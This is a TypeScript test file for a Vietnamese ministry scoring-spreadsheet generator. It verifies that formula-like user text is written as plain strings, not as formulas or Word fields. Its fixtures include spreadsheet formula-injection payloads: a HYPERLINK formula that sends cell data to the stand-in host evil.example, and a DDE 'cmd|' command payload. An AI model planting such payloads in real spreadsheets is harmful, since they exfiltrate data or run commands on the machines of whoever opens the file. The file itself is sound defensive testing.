/**
 * Formula injection: text that came from users — unit names and codes, sheet names, notes, config
 * values, rejected cell text — starting with =, +, -, @, tab or carriage return is written as
 * text in every output sheet, and no formula the engine writes carries user text outside a
 * string literal or a quoted sheet name.
 */
import { mkdtempSync, readFileSync, rmSync } from "fs";
import os from "os";
import path from "path";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { generatedKind } from "../../src/core/marker";
import { snapshotOfFile } from "../support/readBack";
import { readXlsx, typeName } from "../support/cells";
import { cli } from "../support/cliRun";
import { formulaShapeProblem } from "../support/formulaShape";

const SAMPLE = path.join(__dirname, "../../examples/khoi-thi-dua-2-2023.xlsx");
const NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")', "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"];
const CODES = { BNV: "=BNV", BKHDT: "+KH" } as Record<string, string>;
const BLOC = "=cmd|' /C calc'!A0";
/** Pieces of the payloads that must never appear in a formula. */
const FORBIDDEN = ["evil.example", "SUM(1,2)", "2+3", "SUM(A1:A2)", "1+1", "cmd|", "=BNV", "+KH"];

let dir: string;
let out: string;
let clean: { out: string; docx: string; minutes: string };
let payloads: string[];

/** The sample with user text that starts like a formula everywhere; figures as text only if asked. */
async function hostileText(file: string, badFigures: boolean): Promise<void> {
  const wb = await readXlsx(SAMPLE);
  const cfg = wb.getWorksheet("Cấu hình")!;
  cfg.getCell("B4").value = BLOC;
  const set = (key: string, v: string) =>
    cfg.eachRow((row) => {
      if (row.getCell(1).value === key) row.getCell(2).value = v;
    });
  set("Chủ đề thi đua", "\tSiết chặt");
  set("Địa danh", "@Hà Nội");
  set("Người ký", "-Trần Đức Tuấn");
  set("Chức vụ", "=Chánh Thanh tra");
  set("Căn cứ", "+Kế hoạch 66");
  // Roster rows: names become payloads; two codes start with = and +; BTP's sheet is renamed "=BTP".
  let k = 0;
  cfg.eachRow((row) => {
    const code = row.getCell(1).value;
    if (typeof code !== "string" || !/^(BCA|BTP|BQP|BKHDT|BNV|NHNN)$/.test(code) || row.getCell(3).value !== code) return;
    row.getCell(2).value = NAMES[k++];
    if (CODES[code]) row.getCell(1).value = CODES[code];
    if (code === "BTP") row.getCell(3).value = "=BTP";
  });
  wb.getWorksheet("BTP")!.name = "=BTP";
  wb.getWorksheet("Chấm điểm")!.eachRow((row) => {
    const code = row.getCell(1).value;
    if (typeof code === "string" && CODES[code]) row.getCell(1).value = CODES[code];
  });
  wb.getWorksheet("BCA")!.getCell("G7").value = "=1+1"; // a note
  if (badFigures) {
    // Text in figure cells: rejected, and quoted in the messages of "Kiểm tra".
    wb.getWorksheet("BQP")!.getCell("E7").value = "=SUM(1,2)";
    wb.getWorksheet("BQP")!.getCell("F7").value = "@1+1";
  }
  await wb.xlsx.writeFile(file);
}

beforeAll(async () => {
  dir = mkdtempSync(path.join(os.tmpdir(), "bs-inject-"));
  const input = path.join(dir, "hostile-text.xlsx");
  await hostileText(input, true);
  out = path.join(dir, "hostile-text.out.xlsx");
  const r = await cli(["build", input, "--out", out]);
  expect(r.code).toBe(1); // the text figures are errors; the summary and "Kiểm tra" are still written
  const cleanInput = path.join(dir, "clean.xlsx");
  await hostileText(cleanInput, false);
  clean = { out: path.join(dir, "clean.out.xlsx"), docx: path.join(dir, "clean.docx"), minutes: path.join(dir, "clean.minutes.docx") };
  const c = await cli(["build", cleanInput, "--out", clean.out, "--docx", clean.docx, "--minutes", clean.minutes]);
  expect([c.code, c.err]).toEqual([0, []]);
  payloads = [...NAMES, ...Object.values(CODES), "=BTP"];
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** The engine trims what it reads (a leading tab or CR goes), so "\t=1+1" arrives as "=1+1": still text. */
const norm = (s: string) => s.trim();

describe("formula injection", () => {
  it.each([
    ["with errors", 3],
    ["clean, with the submission sheet", 4],
  ])("writes every user text that starts like a formula as a string cell (%s)", async (_, sheets) => {
    // Summary, checks, (submission,) and the hidden state sheet of shared review.
    const file = sheets === 3 ? out : clean.out;
    const wb = await readXlsx(file);
    const generated = snapshotOfFile(file)
      .sheets.filter((s) => generatedKind(s) !== null)
      .map((s) => s.name);
    expect(generated.length).toBe(sheets);
    for (const p of payloads) {
      const hits: { sheet: string; address: string; type: string }[] = [];
      for (const name of generated) {
        wb.getWorksheet(name)!.eachRow((row) =>
          row.eachCell((cell) => {
            // A merged area's other cells echo its first cell; the first cell is the one written.
            const v = cell.type === ExcelJS.ValueType.Formula || cell.type === ExcelJS.ValueType.Merge ? null : cell.value;
            if (typeof v === "string" && norm(v) === norm(p)) hits.push({ sheet: name, address: cell.address, type: typeName(cell.type) });
          }),
        );
      }
      expect([p, hits.length > 0]).toEqual([p, true]);
      for (const h of hits) expect([p, h.type]).toEqual([p, "String"]);
    }
  });

  it.each(["with errors", "clean"])("writes no formula that carries user text, on any generated sheet (%s)", async (which) => {
    const file = which === "clean" ? clean.out : out;
    const wb = await readXlsx(file);
    const problems: string[] = [];
    let formulas = 0;
    for (const s of snapshotOfFile(file).sheets.filter((x) => generatedKind(x) !== null)) {
      wb.getWorksheet(s.name)!.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Merge) return;
          if (cell.type !== ExcelJS.ValueType.Formula) {
            if (typeof cell.value === "string" && /^[=+\-@]/.test(cell.value) && cell.type !== ExcelJS.ValueType.String) problems.push(`${s.name}!${cell.address} not a string`);
            return;
          }
          formulas++;
          const f = cell.formula;
          const bad = formulaShapeProblem(f);
          if (bad) problems.push(`${s.name}!${cell.address}: ${bad}`);
          // Outside literals (a link to the sheet "=BTP" names it inside a string), no payload piece.
          const bare = f.replace(/"(?:[^"]|"")*"/g, '""').replace(/'(?:[^']|'')+'!/g, "S!");
          for (const x of FORBIDDEN) if (bare.includes(x)) problems.push(`${s.name}!${cell.address}: ${f}`);
        }),
      );
    }
    expect(problems).toEqual([]);
    expect(formulas).toBeGreaterThan(100);
    if (which === "clean") expect(snapshotOfFile(file).sheets.some((x) => generatedKind(x) === "submission")).toBe(true);
  });

  it("stores those texts as shared or inline strings in the file itself, never in <f>", async () => {
    for (const file of [out, clean.out]) {
      const zip = await JSZip.loadAsync(readFileSync(file));
      const sheets = Object.keys(zip.files).filter((f) => /^xl\/worksheets\/sheet\d+\.xml$/.test(f));
      for (const f of sheets) {
        const xml = await zip.file(f)!.async("string");
        for (const m of xml.matchAll(/<f[^>]*>([^<]*)<\/f>/g)) {
          for (const x of ["evil.example", "cmd|", "SUM(1,2)", "Chánh Thanh tra", "Hà Nội"]) expect([f, m[1].includes(x)]).toEqual([f, false]);
        }
      }
    }
  });

  it.each(["docx", "minutes"] as const)("writes the user text into the .docx (%s) as plain runs: no fields, no links", async (which) => {
    const zip = await JSZip.loadAsync(readFileSync(clean[which]));
    const xml = await zip.file("word/document.xml")!.async("string");
    expect(xml).not.toMatch(/<w:fldSimple|<w:instrText|<w:fldChar|<w:hyperlink|<w:object|<w:sdt/);
    const text = [...xml.matchAll(/<w:t(?: [^>]*)?>([^<]*)<\/w:t>/g)].map((m) => m[1]).join("\n");
    expect(text.length).toBeGreaterThan(200);
    for (const x of ["cmd|", "@Hà Nội", "=Chánh Thanh tra", "-Trần Đức Tuấn"]) {
      if (which === "minutes" && x !== "cmd|") continue;
      // Titles may be set in capitals; the text is there either way.
      expect([x, text.toLowerCase().includes(x.toLowerCase())]).toEqual([x, true]);
    }
    // The writer itself builds only paragraphs, tables and text runs.
    for (const writer of ["src/file/docx.ts", "src/docx/document.ts", "src/docx/blob.ts"]) {
      expect(readFileSync(path.join(__dirname, "../..", writer), "utf8")).not.toMatch(/\b(SimpleField|ComplexField|FieldInstruction|ExternalHyperlink|InternalHyperlink)\b/);
    }
  });
});
